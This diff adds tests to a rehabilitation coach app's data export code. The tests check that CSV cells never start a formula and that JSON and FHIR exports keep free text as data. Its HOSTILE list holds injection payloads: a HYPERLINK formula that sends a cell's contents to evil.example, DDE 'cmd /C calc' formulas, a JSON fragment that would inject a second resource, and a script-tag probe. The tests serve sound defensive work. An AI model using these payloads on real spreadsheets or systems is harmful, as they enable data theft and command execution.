@@ -433,3 +433,158 @@ def test_cli_export_and_import(
         )
         == 2
     )
+
+
+# ---------------------------------------------------------------------------------------------
+# Safe to open, identity from the routine, writers that verify
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '"}],"resourceType":"Patient","id":"evil',
+    "<script>alert(1)</script>",
+]
+_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_history(tmp_path: Path) -> History:
+    h, _ = open_history(tmp_path / "hostile.sqlite3")
+    for k, text in enumerate(HOSTILE):
+        when = T0 + timedelta(hours=k)
+        rec = h.recorder()
+        rec.start_session(text, 1, when=when)  # a title recorded as the routine id
+        rec.record_pain(2, "before", when=when)
+        rec.start_exercise("glute_bridge", position=0, sets_planned=1, reps_planned=2, when=when)
+        rec.record_rep(RepRecord(1, 1.0, 3.0, 2.0, -3.5, 5.0, ("over_arching",), ()))
+        rec.end_exercise(
+            {"reps": 1, "faults": {"over_arching": 1},
+             "cues": [{"t": 1.0, "fault": "over_arching", "text": text}]},
+            when=when + timedelta(minutes=1),
+        )
+        rec.end_session(when=when + timedelta(minutes=2))
+        h.add_progression_event("glute_bridge", "progress", text, routine_id=text,
+                                before={"reps": 2}, after={"reps": 3}, when=when)
+    return h
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    h = _hostile_history(tmp_path)
+    files = export_csv(h, tmp_path / "csv")
+    seen = set()
+    for f in files:
+        if f.suffix != ".csv":
+            continue
+        with f.open(newline="", encoding="utf-8") as fh:
+            for row in list(csv.reader(fh))[1:]:
+                for cell in row:
+                    if cell.startswith(_FORMULA):
+                        float(cell)  # only a number may start with + or -
+                    if cell.startswith("'"):
+                        seen.add(cell[1:])
+    # every hostile text arrived, quoted, in the files (routine ids, cues, reasons)
+    assert {t for t in HOSTILE if t.startswith(_FORMULA)} <= seen
+    sessions = _rows(tmp_path / "csv" / "sessions.csv")
+    assert sessions[0]["routine_id"] == "'" + HOSTILE[0]
+    assert sessions[6]["routine_id"] == HOSTILE[6]  # harmless text is left alone
+    reps = _rows(tmp_path / "csv" / "reps.csv")
+    assert reps[0]["range_deg"] == "-3.5"  # numbers stay numbers
+    h.close()
+
+
+def test_json_and_fhir_keep_free_text_as_data(tmp_path: Path) -> None:
+    from coach.routines.routine import Routine
+
+    h = _hostile_history(tmp_path)
+    for f in export_json(h, tmp_path / "json"):
+        data = json.loads(f.read_text(encoding="utf-8"))
+        assert data["routine"]["id"] in HOSTILE and set(data) >= {"schema", "routine", "items"}
+        assert data["items"][0]["faults"]["over_arching"]["cue"] == data["routine"]["id"]
+    routine = Routine.model_validate({
+        "id": "r1", "title": HOSTILE[0], "author": {"name": HOSTILE[3]},
+        "patient": {"display_name": HOSTILE[6], "birth_year": 1971,
+                    "external_ids": {"clinic": HOSTILE[1]}},
+        "blocks": [{"name": "b", "items": [{"exercise": "glute_bridge", "notes": HOSTILE[2]}]}],
+    })
+    path = export_fhir(h, tmp_path / "b.json", routine=routine)
+    data = json.loads(path.read_text(encoding="utf-8"))
+    kinds = [e["resource"]["resourceType"] for e in data["entry"]]
+    assert kinds.count("Patient") == 1  # the name did not become a second resource
+    patient = data["entry"][0]["resource"]
+    assert patient["name"][0]["text"] == HOSTILE[6]
+    assert patient["identifier"][0]["value"] == HOSTILE[1]
+    plans = [e["resource"] for e in data["entry"] if e["resource"]["resourceType"] == "CarePlan"]
+    assert sorted(p["identifier"][0]["value"] for p in plans) == sorted(HOSTILE)
+    Bundle.model_validate(data)
+    h.close()
+
+
+def test_fhir_patient_and_careplans_come_from_the_routine(history: History, tmp_path: Path) -> None:
+    from coach.routines.catalogue import exercises_dir
+    from coach.routines.routine import parse_routine
+
+    text = (exercises_dir() / "routines" / "clbp_starter.yaml").read_text()
+    text = text.replace("created: 2026-11-01", 'patient:\n  display_name: J. Doe\n  birth_year: 1971\n'
+                        '  external_ids: {clinic: "23-4543", "https://fhir.nhs.uk/Id/nhs-number": "9434765919"}\n'
+                        "created: 2026-11-01")
+    f = tmp_path / "named.yaml"
+    f.write_text(text)
+    routine, _ = parse_routine(text, str(f))
+    out = tmp_path / "b.json"
+    assert main(["history", "--db", str(history.path), "export", "--fhir", str(out), "--routine", str(f)]) == 0
+    bundle = Bundle.model_validate_json(out.read_text(encoding="utf-8"))
+    (patient,) = [e.resource for e in bundle.entry if e.resource.get_resource_type() == "Patient"]
+    assert patient.name[0].text == "J. Doe" and str(patient.birthDate) == "1971"
+    assert [(i.system, i.value) for i in patient.identifier] == [
+        ("https://rehabcoach.example/fhir/NamingSystem/patient-id/clinic", "23-4543"),
+        ("https://fhir.nhs.uk/Id/nhs-number", "9434765919"),
+    ]
+    (plan,) = [e.resource for e in bundle.entry if e.resource.get_resource_type() == "CarePlan"]
+    assert [(i.system, i.value) for i in plan.identifier] == [
+        ("https://rehabcoach.example/fhir/NamingSystem/routine", "clbp-starter-template")]
+    assert plan.title == "Back pain starter - weeks 1 to 4 (version 2)"
+    assert plan.extension[0].valueInteger == 2
+    # and the version comes back on import
+    (s, *_rest) = import_results(out).sessions
+    assert (s.routine.id, s.routine.version) == ("clbp-starter-template", 2)
+    csv_rows = _rows(export_csv(history, tmp_path / "c")[0])
+    assert {r["routine_id"] for r in csv_rows} == {"clbp-starter-template"}
+
+
+def test_exports_verify_and_refuse_wrong_targets(
+    history: History, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch
+) -> None:
+    from coach.store import export
+
+    db = str(history.path)
+    folder = tmp_path / "dir"
+    folder.mkdir()
+    assert main(["history", "--db", db, "export", "--fhir", str(folder)]) == 2
+    err = capsys.readouterr().err
+    assert "give the FHIR Bundle a file name" in err and list(folder.iterdir()) == []
+    a_file = tmp_path / "file.txt"
+    a_file.write_text("x")
+    assert main(["history", "--db", db, "export", "--csv", str(a_file)]) == 2
+    assert "give a folder" in capsys.readouterr().err
+    # a file that does not read back is an error, and no half-written file is left
+    real = export._verify_csv
+
+    def broken(path, header, rows):
+        path.write_text("")  # as if the disk lost it
+        real(path, header, rows)
+
+    monkeypatch.setattr(export, "_verify_csv", broken)
+    assert main(["history", "--db", db, "export", "--csv", str(tmp_path / "c")]) == 2
+    assert "does not read back" in capsys.readouterr().err
+    assert not list((tmp_path / "c").glob("*.csv")) and not list((tmp_path / "c").glob(".*"))
+    monkeypatch.setattr(export, "_verify_fhir", lambda p, b: (_ for _ in ()).throw(export._unreadable(p, "test")))
+    assert main(["history", "--db", db, "export", "--fhir", str(tmp_path / "b.json")]) == 2
+    assert not (tmp_path / "b.json").exists()
+    monkeypatch.undo()
+    assert main(["history", "--db", db, "export", "--json", str(tmp_path / "j")]) == 0
+    printed = capsys.readouterr().out.split()
+    assert len(printed) == 3 and all(Path(p).stat().st_size > 0 for p in printed)
